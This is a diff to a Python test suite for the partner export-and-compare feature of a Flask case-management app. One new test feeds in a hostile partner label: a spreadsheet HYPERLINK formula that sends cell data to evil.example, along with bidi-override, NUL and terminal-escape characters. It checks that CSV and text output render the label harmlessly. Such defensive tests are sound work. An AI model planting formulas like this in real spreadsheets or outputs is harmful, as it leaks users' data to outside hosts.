@@ -156,6 +156,12 @@ def _partner_file(path: Path, people: list[tuple[dict[str, Any], str]], label: s
     return path
 
 
+def _new_process(app: Flask) -> None:
+    """`casebook partners compare` runs in a process of its own, whose key cache is empty:
+    the data keys were cached here only because the test just created the cases."""
+    app.extensions["casebook.vault"].forget_all()
+
+
 def _cases(app: Flask, client: FlaskClient) -> tuple[dict[str, dict[str, Any]], UserFixture]:
     documenter = make_user(app, "documenter")
     h = bearer(app, documenter)
@@ -213,6 +219,7 @@ def test_export_compare_and_mark_for_lawyers(
         ],
         label="Partner Org",
     )
+    _new_process(app)
     out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
     assert out.exit_code == 0, out.output
     counts = json.loads(out.stdout.splitlines()[0])
@@ -373,3 +380,58 @@ def test_erasing_a_case_drops_its_partner_rows(
     with app.extensions["casebook.db"].sessionmaker() as s:
         assert s.scalars(select(PartnerRecord)).all() == []
         assert s.scalars(select(PartnerMark)).all() == []
+
+
+def test_our_file_compared_with_a_copy_marks_every_case(
+    app: Flask, client: FlaskClient, tmp_path: Path
+) -> None:
+    """Our own export against a file that matches it (the same records under another export
+    id): every consenting case is a match and gets its mark, without a crash."""
+    made, _ = _cases(app, client)
+    ours = tmp_path / "ours.json"
+    secret = _secret_file(tmp_path)
+    out = _invoke(
+        app, "partners", "export", "-o", str(ours), "--secret-file", str(secret), "--label", "Ours"
+    )
+    assert out.exit_code == 0, out.output
+    doc = json.loads(ours.read_text())
+    doc["export"] = "00000000-0000-4000-8000-000000000001"
+    benign = tmp_path / "benign.json"
+    benign.write_text(json.dumps(doc))
+    _new_process(app)
+    out = _invoke(app, "partners", "compare", str(ours), str(benign), "--format", "json")
+    assert out.exit_code == 0, out.output
+    counts = json.loads(out.stdout.splitlines()[0])
+    assert counts == {"lists": ["Ours", "Ours (2)"], "patterns": {"11": 1, "10": 0, "01": 0}}
+    with app.extensions["casebook.db"].sessionmaker() as s:
+        marks = s.scalars(select(PartnerMark)).all()
+        assert [str(m.case_id) for m in marks] == [made["consenting"]["id"]]
+        assert marks[0].body is not None and marks[0].body["label"] == "Ours (2)"
+
+
+def test_a_partner_label_cannot_be_a_formula_or_hide_characters(
+    app: Flask, client: FlaskClient, tmp_path: Path
+) -> None:
+    """A partner file's label is someone else's text: the CSV shows it as text, not a formula,
+    and neither the output nor lawyers' marks keep its NUL, controls or bidi overrides."""
+    _cases(app, client)
+    ours = tmp_path / "ours.json"
+    out = _invoke(
+        app, "partners", "export", "-o", str(ours), "--secret-file", str(_secret_file(tmp_path))
+    )
+    assert out.exit_code == 0, out.output
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"open")\u202eevil\u0000\x1b[2J'
+    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], evil + "x" * 500)
+    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
+    assert out.exit_code == 0, out.output
+    header = out.stdout.splitlines()[0]
+    assert header.split(",", 1)[1].startswith("\"'=HYPERLINK(")  # text, not a formula
+    for bad in ("\u202e", "\x00", "\x1b"):
+        assert bad not in out.stdout
+    text = _invoke(app, "partners", "compare", str(ours), str(theirs))
+    assert "\t'=HYPERLINK(" in text.stdout and "\u202e" not in text.stdout
+    with app.extensions["casebook.db"].sessionmaker() as s:
+        (mark,) = s.scalars(select(PartnerMark)).all()
+        label = (mark.body or {})["label"]
+    assert label.startswith('=HYPERLINK("http://evil.example/?"&A2,"open")evil[2J')
+    assert len(label) <= 100 and not any(ord(c) < 32 or c == "\u202e" for c in label)
